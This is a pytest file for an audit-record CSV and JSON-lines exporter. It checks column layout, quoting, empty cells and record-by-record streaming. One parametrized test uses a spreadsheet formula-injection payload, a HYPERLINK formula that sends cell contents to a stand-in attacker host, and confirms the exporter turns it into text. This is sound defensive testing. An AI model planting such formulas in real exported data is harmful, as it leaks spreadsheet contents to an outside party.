"""Exports: every field in its column for good, nothing that a spreadsheet would run, and one record at a time."""

import csv
import io
import json
from collections.abc import Iterator
from dataclasses import fields, replace
from typing import Any

import pytest

from fleetgate.domain.audit import AuditRecord, RecordKind, Verdict
from fleetgate.trail.export import COLUMNS, ExportFormat, csv_lines, exported, json_lines
from harness.builders import CERTIFICATE_ID, NOW

RECORD = AuditRecord(
    record_id="01JNX0000000000000000000DA",
    recorded_at=NOW,
    kind=RecordKind.DECISION,
    verdict=Verdict.DENIED,
    reason="mac_address_mismatch",
    serial_number="FG-0001",
    certificate_id=CERTIFICATE_ID,
    presented_serial_number='FG "0001", or so',
    entry_version=3,
)


def rows(*records: AuditRecord) -> list[dict[str, str]]:
    """What a reader of the CSV finds."""
    return list(csv.DictReader(io.StringIO("".join(csv_lines(records)), newline="")))


def test_every_field_of_a_record_has_a_column() -> None:
    assert set(COLUMNS) == {field.name for field in fields(AuditRecord)}
    assert len(COLUMNS) == len(set(COLUMNS))


def test_columns_stay_where_they_are() -> None:
    # What reads an export by place must not break: a new field goes to the end.
    assert COLUMNS[:10] == (
        *("record_id", "recorded_at", "kind", "verdict", "action", "reason", "actor"),
        *("serial_number", "mac_address", "certificate_id"),
    )
    assert COLUMNS[22:] == ("request_id", "key_fingerprint", "path")


def test_a_record_is_one_row_with_empty_cells_for_what_it_does_not_tell() -> None:
    (row,) = rows(RECORD)
    told = {name: value for name, value in row.items() if value}
    assert told == {
        "record_id": "01JNX0000000000000000000DA",
        "recorded_at": "2026-03-01T12:00:00Z",
        "kind": "decision",
        "verdict": "denied",
        "reason": "mac_address_mismatch",
        "serial_number": "FG-0001",
        "certificate_id": CERTIFICATE_ID,
        "taken_over": "false",
        "presented_serial_number": 'FG "0001", or so',
        "entry_version": "3",
    }


def test_without_records_there_is_the_header_alone() -> None:
    assert list(csv_lines([])) == [",".join(f'"{name}"' for name in COLUMNS) + "\r\n"]
    assert list(json_lines([])) == []


@pytest.mark.parametrize("beginning", ["=", "+", "-", "@", "\t", "\r", "\n"])
@pytest.mark.parametrize("name", ["presented_serial_number", "client_id", "reason", "actor", "manufacturer"])
def test_a_cell_that_a_spreadsheet_would_take_for_a_formula_is_text(name: str, beginning: str) -> None:
    attack = f'{beginning}HYPERLINK("http://evil.example/"&A1)'
    attacked: dict[str, Any] = {name: attack}
    (row,) = rows(replace(RECORD, **attacked))
    assert row[name] == f"'{attack}"


@pytest.mark.parametrize("harmless", ["a=b", "'=", "FG-1", "", "1+1", " =1"])
def test_any_other_cell_is_left_as_it_is(harmless: str) -> None:
    (row,) = rows(replace(RECORD, client_id=harmless))
    assert row["client_id"] == harmless


@pytest.mark.parametrize("splitting", ['";=1', "a;=1", "a,=1", 'a","=1', "a\n=1", "a\r\n=1"])
def test_no_value_begins_a_cell_or_a_row_of_its_own(splitting: str) -> None:
    (row,) = rows(replace(RECORD, client_id=splitting))
    assert row["client_id"] == splitting
    line = list(csv_lines([replace(RECORD, client_id=splitting)]))[1]
    assert line.count('","') == len(COLUMNS) - 1 + splitting.count('","')
    assert line.startswith('"')
    assert line.endswith('"\r\n')


def test_json_lines_have_every_value_as_it_is() -> None:
    attack = replace(RECORD, client_id="=1+1")
    first, second = map(json.loads, json_lines([RECORD, attack]))
    assert set(first) == set(COLUMNS)
    assert (first["verdict"], first["entry_version"], first["taken_over"]) == ("denied", 3, False)
    assert (first["client_id"], second["client_id"]) == (None, "=1+1")


@pytest.mark.parametrize("form", ExportFormat)
def test_a_line_is_ready_before_the_next_record_is_read(form: ExportFormat) -> None:
    read: list[int] = []

    def endless() -> Iterator[AuditRecord]:
        number = 0
        while True:
            read.append(number)
            yield RECORD
            number += 1

    lines = exported(endless(), form)
    for _ in range(3):
        next(lines)
    assert len(read) <= 3
